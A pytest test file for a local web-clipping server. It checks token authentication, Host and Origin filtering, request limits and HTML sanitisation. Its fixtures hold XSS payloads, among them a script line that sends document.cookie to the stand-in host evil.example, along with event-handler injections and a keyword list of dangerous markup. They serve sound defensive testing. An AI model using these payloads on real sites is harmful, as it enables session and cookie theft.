"""The door: only the extension (or a local tool with the token) gets in; hostile pages stay inert."""

import json
import stat

import pytest
import requests

from conftest import article_page

HOSTILE_EXTRA = """
<p>Click <a href="javascript:alert(document.cookie)">this harmless link</a> for the weather report.</p>
<p><img src="x.png" onerror="alert(1)" alt="chart"> The orchard figures are in the chart above.</p>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<p onclick="alert(2)">The council met again on <b onmouseover="alert(3)">Tuesday</b> to agree the plan.</p>
<iframe src="https://evil.example/frame"></iframe>
"""


def error_code(response: requests.Response) -> str:
    return response.json()["error"]["code"]


def test_no_token_and_wrong_token_are_401(server):
    assert requests.get(server.base_url + "/api/clips", timeout=10).status_code == 401
    for header in ("Bearer wrong-token", "Bearer ", f"Basic {server.token}", server.token):
        response = requests.get(server.base_url + "/api/clips", headers={"Authorization": header}, timeout=10)
        assert response.status_code == 401, header
        assert error_code(response) == "unauthorized"
    post = requests.post(server.base_url + "/api/clips", json={"url": "https://x.example/", "html": "<p>x</p>"}, timeout=10)
    assert post.status_code == 401


def test_token_file_is_private_and_random(server):
    path = server.data_dir / "token"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert len(server.token) >= 32


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example:7373"])
def test_foreign_host_is_403_everywhere(server, host):
    for path in ("/api/health", "/api/clips", "/", "/clips/0123456789abcdef"):
        response = server.api("GET", path, headers={"Host": host})
        assert response.status_code == 403, (host, path)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "LOCALHOST:{port}", "127.0.0.1:{port}", "[::1]:{port}"])
def test_loopback_hosts_pass(server, host):
    response = server.api("GET", "/api/clips", headers={"Host": host.format(port=server.port)})
    assert response.status_code == 200


@pytest.mark.parametrize("origin", ["https://evil.example", "http://evil.example", "http://127.0.0.1:9999", "null"])
def test_web_origins_are_403_without_cors(server, origin):
    for method, path in (("GET", "/api/clips"), ("GET", "/api/health"), ("POST", "/api/clips")):
        response = server.api(method, path, headers={"Origin": origin}, json={"url": "https://x.example/", "html": "<p>x</p>"})
        assert response.status_code == 403, (origin, path)
        assert not any(name.lower().startswith("access-control-") for name in response.headers)
    preflight = requests.options(server.base_url + "/api/clips", timeout=10, headers={
        "Origin": origin, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization,content-type",
    })
    assert preflight.status_code == 403
    assert not any(name.lower().startswith("access-control-") for name in preflight.headers)


@pytest.mark.parametrize("origin", ["chrome-extension://abcdefghijklmnopabcdefghijklmnop", "moz-extension://3c5e4a1b-1111-2222-3333-444455556666"])
def test_extension_origins_pass_and_preflight_is_answered(server, origin):
    preflight = requests.options(server.base_url + "/api/clips", timeout=10, headers={
        "Origin": origin, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization,content-type",
    })
    assert preflight.status_code == 204
    assert preflight.headers["Access-Control-Allow-Origin"] == origin
    assert "POST" in preflight.headers["Access-Control-Allow-Methods"]
    assert "authorization" in preflight.headers["Access-Control-Allow-Headers"].lower()
    response = server.api("GET", "/api/clips", headers={"Origin": origin})
    assert response.status_code == 200
    assert response.headers["Access-Control-Allow-Origin"] == origin


def test_no_origin_passes(server):
    assert server.api("GET", "/api/clips").status_code == 200


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None])
def test_only_json_bodies(server, content_type):
    body = json.dumps({"url": "https://x.example/", "html": article_page("Simple request", 1)})
    headers = {"Content-Type": content_type} if content_type else {}
    response = requests.post(server.base_url + "/api/clips", data=body.encode(), timeout=10,
                             headers={"Authorization": f"Bearer {server.token}", **headers})
    assert response.status_code == 415
    assert error_code(response) == "unsupported_media_type"


def test_oversized_body_is_413(server):
    from tidyclip.config import MAX_BODY_BYTES

    body = b'{"url": "https://x.example/", "html": "' + b"a" * MAX_BODY_BYTES + b'"}'
    response = server.api("POST", "/api/clips", data=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 413
    assert error_code(response) == "too_large"


def test_hostile_page_is_stored_and_served_inert(server):
    page = article_page("Weather <script>alert('t')</script> report", seed=9, body_extra=HOSTILE_EXTRA)
    response = server.api("POST", "/api/clips", json={
        "url": "https://hostile.example/page", "html": page, "title": "<img src=x onerror=alert(1)>Weather report",
    })
    assert response.status_code == 201, response.text
    clip_id = response.json()["id"]
    served = [response.text, server.api("GET", f"/api/clips/{clip_id}").text,
              server.api("GET", "/api/clips", params={"q": "weather"}).text]
    stored = [path.read_text(encoding="utf-8") for path in (server.data_dir / "bodies").rglob(f"{clip_id}*.json")]
    stored += [path.read_text(encoding="utf-8") for path in (server.data_dir / "meta").glob(f"{clip_id[:3]}.json")]
    for text in served + stored:
        lowered = text.lower()
        for needle in ("<script", "onerror", "onclick", "onmouseover", "javascript:", "<iframe"):
            assert needle not in lowered
    clip = server.api("GET", f"/api/clips/{clip_id}").json()
    assert clip["title"] == "Weather report"
    assert "orchard figures" in clip["text"]  # the article itself survived


def test_hostile_edits_are_plain_text(server):
    clip_id = server.api("POST", "/api/clips", json={"url": "https://hostile.example/edit", "html": article_page("Edit me", 3)}).json()["id"]
    response = server.api("PATCH", f"/api/clips/{clip_id}", json={
        "title": "<script>alert(1)</script>Fine title", "tags": ["<b onmouseover=x>bold</b>"], "note": "a < b and <img src=x onerror=y>",
    })
    assert response.status_code == 200
    clip = response.json()
    assert clip["title"] == "alert(1)Fine title"
    assert clip["tags"] == ["bold"]
    assert "onerror" not in clip["note"] and clip["note"].startswith("a < b")
